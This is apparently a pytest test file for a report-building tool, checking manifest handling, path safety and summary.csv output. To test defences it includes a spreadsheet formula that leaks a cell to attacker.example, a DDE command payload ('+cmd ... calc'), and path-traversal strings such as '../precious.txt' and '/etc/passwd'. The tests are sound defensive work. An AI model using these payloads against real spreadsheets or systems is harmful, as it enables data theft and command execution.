"""The output folder of `toolkit report`: the manifest (what is built, from what), report
names and paths that stay inside the folder, and summary.csv. No kernel runs here."""

from __future__ import annotations

import csv
import os
from pathlib import Path

import pytest

from toolkit.reports import BatchResult, ReportOutcome, build_reports, notebook_path
from toolkit.reports._folder import report_names, safe_path
from toolkit.reports._index import write_summary_csv
from toolkit.reports._keys import batch_key, file_digest
from toolkit.reports.manifest import MANIFEST_NAME, Manifest


def test_no_articles_outside_the_output_folder(tmp_path):
    (tmp_path / "reports").mkdir()
    (tmp_path / "reports" / "old.html").write_text("<p>an old report</p>", encoding="utf-8")
    with pytest.raises(ValueError, match="no article files found outside the output folder"):
        build_reports(tmp_path, tmp_path / "reports")
    with pytest.raises(ValueError, match="outside the output folder"):
        build_reports([tmp_path / "reports" / "old.html"], tmp_path / "reports")


def test_summary_csv_defuses_spreadsheet_formulas(tmp_path):
    """Titles, sources and reasons come from articles: a cell a spreadsheet would run as a
    formula is written with a leading apostrophe."""
    evil = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for the full story")'
    outcomes = [
        ReportOutcome(
            "evil",
            "news/evil.txt",
            "built",
            summary={"title": evil, "words": 120, "top_actors": ["@Putin", "Biden"]},
            files=("evil.html",),
        ),
        ReportOutcome("minus", "-2+3.txt", "failed", error="+cmd|' /C calc'!A0"),
    ]
    write_summary_csv(tmp_path, BatchResult(out=tmp_path, outcomes=outcomes))
    rows = list(csv.DictReader((tmp_path / "summary.csv").open(encoding="utf-8")))
    assert rows[0]["title"] == "'" + evil
    assert rows[0]["top_actors"] == "'@Putin; Biden"
    assert rows[0]["words"] == "120"
    assert rows[1]["source"] == "'-2+3.txt"
    assert rows[1]["error"] == "'+cmd|' /C calc'!A0"
    for row in rows:
        assert not any(str(v).startswith(("=", "+", "-", "@")) for v in row.values())


def test_installing_nltk_data_changes_every_report_key(tmp_path, monkeypatch):
    """Reports built with a fallback (no cmudict) are rebuilt after `toolkit setup`."""
    from toolkit.lang import nltk_data

    monkeypatch.delenv("TOOLKIT_NLTK_DATA", raising=False)
    # The environment variables stay the same: only what is installed changes.
    monkeypatch.setattr(nltk_data, "search_path", lambda: [tmp_path / "nltk_data"])
    notebook = notebook_path()
    try:
        before = batch_key(notebook, ("html",))
        assert "cmudict" in nltk_data.missing()
        (tmp_path / "nltk_data" / "corpora" / "cmudict").mkdir(parents=True)  # as setup does
        after = batch_key(notebook, ("html",))
        assert "cmudict" not in nltk_data.missing()
    finally:
        nltk_data.have.cache_clear()
    assert before != after


def test_a_hand_edited_manifest_cannot_point_outside_the_report(tmp_path):
    victim = tmp_path / "precious.txt"
    victim.write_text("keep me", encoding="utf-8")
    out = tmp_path / "out"
    out.mkdir()
    (out / "a.html").write_text("<p>a</p>", encoding="utf-8")
    manifest = Manifest(out)
    for files in (["../precious.txt"], ["b.html"], ["/etc/passwd"], "a.html", [], [7]):
        manifest.reports["a"] = {"files": files}
        assert manifest.files("a") is None
    manifest.reports["a"] = {"files": ["a.html"]}
    assert manifest.files("a") == ("a.html",)
    manifest.reports["a"] = {"key": "k", "files": ["a.html", "../precious.txt"]}
    manifest.drop_stale_report("a")
    assert victim.read_text(encoding="utf-8") == "keep me"
    assert "a" not in manifest.reports


def test_a_forced_rebuild_that_fails_keeps_the_report_of_the_same_text(tmp_path):
    (tmp_path / "a.html").write_text("<p>a</p>", encoding="utf-8")
    manifest = Manifest(tmp_path, {"a": {"key": "k", "files": ["a.html"]}})
    manifest.drop_stale_report("a", key="k")
    assert (tmp_path / "a.html").is_file() and "a" in manifest.reports
    manifest.drop_stale_report("a", key="changed")
    assert not (tmp_path / "a.html").exists() and "a" not in manifest.reports


def test_a_report_is_current_while_its_key_and_files_are(tmp_path):
    (tmp_path / "a.html").write_text("<p>a</p>", encoding="utf-8")
    manifest = Manifest(tmp_path)
    manifest.record(
        ReportOutcome("a", "a.txt", "built", {"title": "Talks"}, files=("a.html",)), "k"
    )
    assert manifest.is_current("a", "k") and not manifest.is_current("a", "other")
    assert manifest.summary("a") == {"title": "Talks"}
    manifest.save()
    again = Manifest.load(tmp_path)
    assert again.is_current("a", "k")
    (tmp_path / "a.html").unlink()
    assert not again.is_current("a", "k")


def test_an_unreadable_manifest_means_nothing_is_current(tmp_path):
    (tmp_path / MANIFEST_NAME).write_text("{not json", encoding="utf-8")
    assert Manifest.load(tmp_path).reports == {}
    (tmp_path / MANIFEST_NAME).write_text('{"format": 1, "reports": []}', encoding="utf-8")
    assert Manifest.load(tmp_path).reports == {}


def test_report_paths_stay_in_the_output_folder(tmp_path):
    for bad in ("../evil", "..", "a/b", "/etc/passwd", "a\\b", ""):
        with pytest.raises(ValueError):
            safe_path(tmp_path, bad)
    assert safe_path(tmp_path, "ok.html") == tmp_path / "ok.html"
    names = report_names(
        {
            Path("a/index.txt"): "index",
            Path("b/Index.txt"): "Index",
            Path("c/x.txt"): "_x",
            Path("d/A.txt"): "A",
            Path("e/a.txt"): "a",
        }
    )
    assert list(names.values()) == ["index-2", "Index-3", "x-2", "A", "a-2"]


def test_only_regular_files_are_read_for_a_key(tmp_path):
    """A FIFO would block the batch before any report is built, /dev/zero never end: both
    fail as unreadable, at once."""
    fifo = tmp_path / "pipe.txt"
    os.mkfifo(fifo)
    for path in (fifo, Path("/dev/zero")):
        with pytest.raises(OSError, match="not a regular file"):
            file_digest(path)
    (tmp_path / "talks.txt").write_text("Talks resume in Geneva.\n", encoding="utf-8")
    assert len(file_digest(tmp_path / "talks.txt")) == 64
